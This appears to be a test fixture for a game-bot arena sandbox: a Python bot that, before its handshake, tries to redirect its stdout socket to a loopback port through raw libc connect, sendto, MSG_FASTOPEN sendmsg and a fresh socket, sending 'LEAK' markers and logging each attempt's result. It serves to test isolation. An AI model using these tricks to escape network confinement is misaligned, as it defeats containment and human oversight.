"""A bot that tries to take its stdout elsewhere (issue 25's first attack): ``python reconnect.py PORT``.

Its stdout is the arena's TCP loopback socket, made in the host's network namespace. Before
the handshake it tries to dissolve it (``connect(1, AF_UNSPEC)``) and to point it at
127.0.0.1:PORT (``connect``, ``sendto`` with that address, ``sendmsg`` with ``MSG_FASTOPEN``),
then a socket of its own to that port; it reports each attempt on stderr as ``ATTEMPT NAME
RESULT`` (``ok`` or the errno's name). Then it answers ``hello`` and the first legal action of
every request, over whatever its stdout still is.
"""

import ctypes
import errno
import os
import socket
import struct
import sys

from _frames import receive, send  # beside this script

PORT = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
TARGET = struct.pack("=H", socket.AF_INET) + struct.pack(">H", PORT) + socket.inet_aton("127.0.0.1") + b"\0" * 8
UNSPEC = struct.pack("=H", socket.AF_UNSPEC) + b"\0" * 14


def report(name, attempt):
    try:
        result = attempt()
        outcome = "ok" if result is None or result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    except OSError as error:
        outcome = errno.errorcode.get(error.errno, str(error.errno))
    print("ATTEMPT", name, outcome, file=sys.stderr, flush=True)


def own_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as mine:
        mine.connect(("127.0.0.1", PORT))
        mine.sendall(b"LEAK own socket")


report("connect-AF_UNSPEC", lambda: libc.connect(1, UNSPEC, len(UNSPEC)))
report("connect", lambda: libc.connect(1, TARGET, len(TARGET)))
report("sendto", lambda: libc.sendto(1, b"LEAK sendto", 11, 0, TARGET, len(TARGET)))
stdout = socket.socket(fileno=os.dup(1))
report("sendmsg-fastopen", lambda: stdout.sendmsg([b"LEAK fastopen"], [], socket.MSG_FASTOPEN, ("127.0.0.1", PORT)))
stdout.close()
report("own-socket", own_socket)

receive()
send({"type": "hello", "protocol": "1.0", "name": "reconnect", "version": "1", "games": []})
while True:
    message = receive()
    if message["type"] == "bye":
        sys.exit(0)
    if message["type"] == "request":
        send({"type": "action", "id": message["id"], "action": message["legal"][0] if message["legal"] else None})
